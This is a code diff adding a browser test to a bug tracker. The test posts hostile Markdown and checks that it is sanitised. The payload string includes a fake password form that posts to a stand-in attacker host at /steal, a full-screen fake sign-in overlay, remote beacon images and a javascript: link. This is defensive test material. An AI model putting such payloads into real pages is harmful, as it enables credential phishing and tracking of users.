@@ -15,6 +15,7 @@
  */
 import { spawn } from "node:child_process";
 import { existsSync, mkdirSync, mkdtempSync, rmSync } from "node:fs";
+import { createServer as createHttpServer } from "node:http";
 import { createServer } from "node:net";
 import { tmpdir } from "node:os";
 import { dirname, join, resolve } from "node:path";
@@ -467,6 +468,87 @@ async function run() {
     await page.getByLabel("Status", { exact: true }).selectOption("all");
     await page.getByRole("link", { name: /Checkout button does nothing/ }).waitFor();
     await shot("14-bugs");
+
+    // --- hostile Markdown: no forms, overlays or requests elsewhere (issue 18, finding 6) -------
+    // A loopback server stands in for the attacker's host and records whatever reaches it.
+    const hits = [];
+    const trap = createHttpServer((request, response) => {
+      hits.push(`${request.method} ${request.url}`);
+      response.writeHead(204).end();
+    });
+    await new Promise((ready) => trap.listen(0, "127.0.0.1", ready));
+    try {
+      const evil = `http://127.0.0.1:${trap.address().port}`;
+      const hostile =
+        "Please re-enter your password.\n\n" +
+        `<form action="${evil}/steal"><input type="password" name="p"><button>Sign in</button></form>\n\n` +
+        '<div style="position:fixed;inset:0;z-index:9999;background:white">Nimbus needs you to sign in again</div>\n\n' +
+        `![x](${evil}/beacon.png)\n\n<img src="${evil}/img2.png">\n\n[click](javascript:alert(1))\n`;
+      const hostileBug = await api(base, "POST", `/projects/${PROJECT.key}/bugs`, {
+        token: otherToken,
+        json: {
+          title: "Hostile markdown",
+          description: hostile,
+          priority: "low",
+          severity: "minor",
+          labels: [],
+        },
+      });
+      await api(base, "POST", `/bugs/${hostileBug.key}/comments`, {
+        token: otherToken,
+        json: { body: hostile },
+      });
+      const problemsBefore = problems.length;
+      await page.goto(`${base}/bugs/${hostileBug.key}`);
+      await page.getByRole("heading", { level: 1, name: /Hostile markdown/ }).waitFor();
+      await page.locator(".comment .markdown", { hasText: "re-enter your password" }).waitFor();
+      const rendered = page.locator(".markdown", { hasText: "re-enter your password" });
+      if ((await rendered.count()) !== 2)
+        fail(`expected description and comment, got ${await rendered.count()}`);
+      await page.waitForTimeout(1000);
+      const found = await page.evaluate(() => {
+        const boxes = [...document.querySelectorAll(".markdown")];
+        const inside = (selector) => boxes.reduce((n, box) => n + box.querySelectorAll(selector).length, 0);
+        return {
+          controls: inside("form, input, button, textarea, select"),
+          styled: inside("[style]"),
+          fixed: boxes
+            .flatMap((box) => [...box.querySelectorAll("*")])
+            .filter((el) => getComputedStyle(el).position === "fixed").length,
+          scripted: [...document.querySelectorAll("a[href]")].filter((a) =>
+            /^\s*javascript:/i.test(a.getAttribute("href")),
+          ).length,
+          images: inside("img"),
+          placeholders: boxes.flatMap((box) =>
+            [...box.querySelectorAll("a")]
+              .map((a) => a.textContent)
+              .filter((text) => /^Image from 127\.0\.0\.1:\d+.*not loaded/.test(text)),
+          ).length,
+        };
+      });
+      await shot("14-bug-hostile-markdown");
+      if (found.controls) fail(`user Markdown added ${found.controls} form controls`);
+      if (found.styled) fail(`user Markdown kept ${found.styled} style attributes`);
+      if (found.fixed) fail(`user Markdown added ${found.fixed} position:fixed elements`);
+      if (found.scripted) fail(`the page has ${found.scripted} javascript: links`);
+      if (found.images) fail(`user Markdown kept ${found.images} remote <img> elements`);
+      // Two images in each of the description and the comment.
+      if (found.placeholders !== 4) fail(`expected 4 click-to-load image links, found ${found.placeholders}`);
+      if (hits.length) fail(`opening the bug sent requests elsewhere: ${hits.join(", ")}`);
+      // DOMPurify parses the user's HTML in an inert document that inherits this page's CSP, so
+      // Chromium reports (and blocks) the hostile style attribute there before the allow-list drops
+      // it; the checks above show none reached the page. Any other problem still counts.
+      const raised = problems.splice(problemsBefore);
+      problems.push(...raised.filter((p) => !/style-src-attr|'style-src-attr 'none''/.test(p)));
+      await page
+        .locator(".markdown a", { hasText: /^Image from 127\.0\.0\.1:\d+: x/ })
+        .first()
+        .waitFor();
+    } finally {
+      await new Promise((closed) => trap.close(closed));
+    }
+    await page.goBack();
+    await page.getByRole("heading", { level: 1, name: "Bugs" }).waitFor();
 
     // --- bug attachments: one dropped, one picked; download one, delete one ---------------------
     await page.getByRole("link", { name: /Checkout button does nothing/ }).click();
